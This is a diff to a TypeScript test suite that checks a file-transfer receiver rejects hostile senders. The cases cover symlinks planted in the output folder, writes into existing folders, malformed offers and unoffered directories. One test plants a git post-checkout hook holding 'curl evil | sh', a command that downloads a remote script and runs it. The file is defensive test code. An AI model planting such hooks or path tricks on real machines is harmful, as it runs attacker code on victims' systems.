@@ -36,12 +36,12 @@ after(async () => {
 type Step = { msg: SenderMessage } | { data: Buffer } | { end: true } | { cut: true };
 
 /** Run a scripted sender against receive(); returns receive()'s outcome. */
-async function hostile(script: Step[], outDir: string): Promise<unknown> {
+async function hostile(script: Step[], outDir: string, overwrite = false): Promise<unknown> {
   const client = new RelayClient(relay.httpUrl);
   const join = await client.join({ role: 'sender' });
   const secret = generateSecret();
   const code = formatCode({ channel: join.channel, secret });
-  const receiving = receive({ relay: relay.httpUrl, code, outDir, accept: () => true, timeouts }).then(
+  const receiving = receive({ relay: relay.httpUrl, code, outDir, overwrite, accept: () => true, timeouts }).then(
     () => null,
     (e: unknown) => e,
   );
@@ -64,7 +64,7 @@ async function hostile(script: Step[], outDir: string): Promise<unknown> {
 }
 
 const offer = (names: string[], totalBytes: number): Step => ({
-  msg: { type: 'offer', v: PROTOCOL_VERSION, totalFiles: names.length, totalBytes, names },
+  msg: { type: 'offer', v: PROTOCOL_VERSION, totalFiles: names.length, totalDirs: 0, totalBytes, names },
 });
 const file = (path: string, size: number): Step => ({ msg: { type: 'file', path, size, mode: 0o644, mtime: Date.now() } });
 const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
@@ -94,12 +94,13 @@ for (const name of unsafeNames) {
   });
 }
 
-test('refuses a path into a symlink planted in the output folder', async () => {
+test('refuses a path into a symlink planted in the output folder (at the offer, and even with --overwrite)', async () => {
   const { out, elsewhere } = await fresh('symlink');
   await symlink(elsewhere, join(out, 'link'));
   const data = Buffer.from('payload');
-  const e = await hostile([offer(['link/x'], data.length), file('link/x', data.length), { data }, { msg: { type: 'file-end', sha256: sha(data) } }, { msg: { type: 'done' } }, { end: true }], out);
-  assertCode(e, 'ERR_UNSAFE_PATH');
+  const script: Step[] = [offer(['link'], data.length), file('link/x', data.length), { data }, { msg: { type: 'file-end', sha256: sha(data) } }, { msg: { type: 'done' } }, { end: true }];
+  assertCode(await hostile(script, out), 'ERR_FILE_EXISTS');
+  assertCode(await hostile(script, out, true), 'ERR_UNSAFE_PATH');
   assert.deepEqual(await readdir(elsewhere), []);
 });
 
@@ -164,9 +165,33 @@ test('regression: a file that was not offered is refused (an offer of "photo.jpg
   assert.deepEqual(await readdir(out), []);
 });
 
-test('an offer must name every file, once, as plain names', async () => {
+test('an offer must list its top-level names, once each, as plain names', async () => {
   const { out } = await fresh('offer-shape');
-  assertCode(await hostile([{ msg: { type: 'offer', v: PROTOCOL_VERSION, totalFiles: 2, totalBytes: 2, names: ['a'] } }], out), 'ERR_PROTOCOL');
+  assertCode(await hostile([{ msg: { type: 'offer', v: PROTOCOL_VERSION, totalFiles: 1, totalDirs: 0, totalBytes: 2, names: [] } }], out), 'ERR_PROTOCOL');
   assertCode(await hostile([offer(['a', 'a'], 2)], out), 'ERR_PROTOCOL');
   assertCode(await hostile([offer(['dir/a'], 2)], out), 'ERR_UNSAFE_PATH');
+});
+
+const folderOffer = (names: string[], totalFiles: number, totalDirs: number, totalBytes: number): Step => ({
+  msg: { type: 'offer', v: PROTOCOL_VERSION, totalFiles, totalDirs, totalBytes, names },
+});
+const dir = (path: string): Step => ({ msg: { type: 'dir', path, mode: 0o755, mtime: Date.now() } });
+
+test('an existing top-level folder is not written into without --overwrite, even without its "dir" message', async () => {
+  const { out } = await fresh('existing-root');
+  await mkdir(join(out, 'repo', '.git'), { recursive: true });
+  const hook = Buffer.from('#!/bin/sh\ncurl evil | sh');
+  const viaDir = await hostile([folderOffer(['repo'], 1, 1, hook.length), dir('repo'), file('repo/.git/post-checkout', hook.length), { data: hook }], out);
+  assertCode(viaDir, 'ERR_FILE_EXISTS');
+  const direct = await hostile([folderOffer(['repo'], 1, 0, hook.length), file('repo/.git/post-checkout', hook.length), { data: hook }], out);
+  assertCode(direct, 'ERR_FILE_EXISTS');
+  assert.deepEqual(await readdir(join(out, 'repo', '.git')), []);
+});
+
+test('more folders than offered, or a folder outside the offered names, is refused', async () => {
+  const { out } = await fresh('dirs');
+  assertCode(await hostile([folderOffer(['a'], 0, 1, 0), dir('a'), dir('a/b')], out), 'ERR_PROTOCOL');
+  const { out: out2 } = await fresh('dirs2');
+  assertCode(await hostile([folderOffer(['a'], 0, 1, 0), dir('b')], out2), 'ERR_PROTOCOL');
+  assert.deepEqual(await readdir(out2), []);
 });
